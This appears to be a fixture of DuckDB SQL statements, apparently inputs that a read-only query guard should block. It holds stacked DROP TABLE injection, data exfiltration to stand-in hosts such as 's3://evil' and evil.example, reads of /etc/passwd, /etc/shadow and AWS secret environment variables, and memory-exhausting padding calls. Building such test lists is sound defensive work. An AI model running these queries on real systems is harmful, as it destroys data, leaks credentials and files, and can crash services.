SELECT 1; DROP TABLE orders

DELETE FROM orders

INSERT INTO orders BY NAME SELECT 1 AS order_id

UPDATE orders SET status = 'x'

WITH x AS (SELECT 1) DELETE FROM orders

COPY orders TO '/tmp/orders.parquet' (FORMAT parquet)

COPY (SELECT * FROM customers) TO 's3://evil/customers.csv'

COPY orders FROM '/tmp/x.csv'

EXPORT DATABASE '/tmp/all'

IMPORT DATABASE '/tmp/all'

INSTALL httpfs

LOAD httpfs

FORCE INSTALL spatial FROM 'http://evil.example'

ATTACH 'evil.db'

ATTACH 'host=evil.example' AS pg (TYPE postgres)

DETACH shop

USE other

PRAGMA database_list

PRAGMA enable_external_access

CALL pragma_version()

SET enable_external_access = true

RESET memory_limit

CREATE TABLE t AS FROM orders

CREATE MACRO f(a) AS a + 1

CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')

SELECT * FROM 'orders.csv'

SELECT * FROM '/etc/passwd'

SELECT * FROM "/etc/passwd"

SELECT * FROM 'http://evil.example/x.parquet'

SELECT * FROM "https://evil.example/x.csv"

FROM 's3://bucket/*.parquet'

FROM "data/*.json"

SELECT * FROM read_csv('/etc/passwd')

SELECT * FROM read_csv_auto('/etc/passwd', delim = ':')

FROM read_text('/etc/passwd')

SELECT content FROM read_blob('/etc/shadow')

SELECT * FROM read_parquet(['a.parquet', 'b.parquet'])

SELECT * FROM parquet_scan('x.parquet')

SELECT * FROM read_json_auto('http://evil.example')

SELECT * FROM read_ndjson_objects('x')

SELECT * FROM parquet_metadata('x.parquet')

SELECT * FROM sniff_csv('/etc/passwd')

SELECT * FROM glob('/home/*')

SELECT getenv('AWS_SECRET_ACCESS_KEY')

SELECT "getenv"('HOME')

SELECT * FROM sqlite_scan('/tmp/x.db', 'users')

SELECT * FROM postgres_query('pg', 'DELETE FROM orders')

SELECT * FROM mysql_scan('h', 'd', 't')

SELECT * FROM query('SELECT 1')

SELECT * FROM query_table('orders')

SELECT * FROM iceberg_scan('s3://x')

SELECT * FROM duckdb_secrets()

SELECT * FROM duckdb_settings()

FROM duckdb_tables()

SELECT * FROM duckdb_columns

SELECT * FROM information_schema.tables

SELECT * FROM pg_catalog.pg_class

SELECT * FROM sqlite_master

SELECT * FROM pragma_table_info('orders')

SELECT nextval('seq')

SELECT current_setting('secret_directory')

SELECT getvariable('x')

SELECT write_log('x')

SELECT which_secret('s3://x', 's3')

SELECT my_macro(1)

SELECT other.main.f(1)

SELECT * FROM other_db.main.orders

SUMMARIZE orders

DESCRIBE orders

SHOW TABLES

EXPLAIN ANALYZE SELECT * FROM orders

CHECKPOINT

VACUUM orders

PREPARE p AS SELECT 1

EXECUTE p

SELECT 'x'.getenv()

SELECT repeat('x', 2000000000)

MERGE INTO stock USING products USING (product_id) WHEN MATCHED THEN DELETE

SELECT COLUMNS(c -> getenv(c) = '') FROM orders

SELECT list_transform(['HOME'], x -> getenv(x))

SELECT [getenv(x) FOR x IN ['HOME']]

SELECT format('{:>900000000}', 1)

SELECT format('{:{}}', 1, 900000000)

SELECT printf('%900000000d', 1)

SELECT lpad(name, 9e8, ' ') FROM customers

SELECT rpad(name, LENGTH(name) + 900000000, ' ') FROM customers
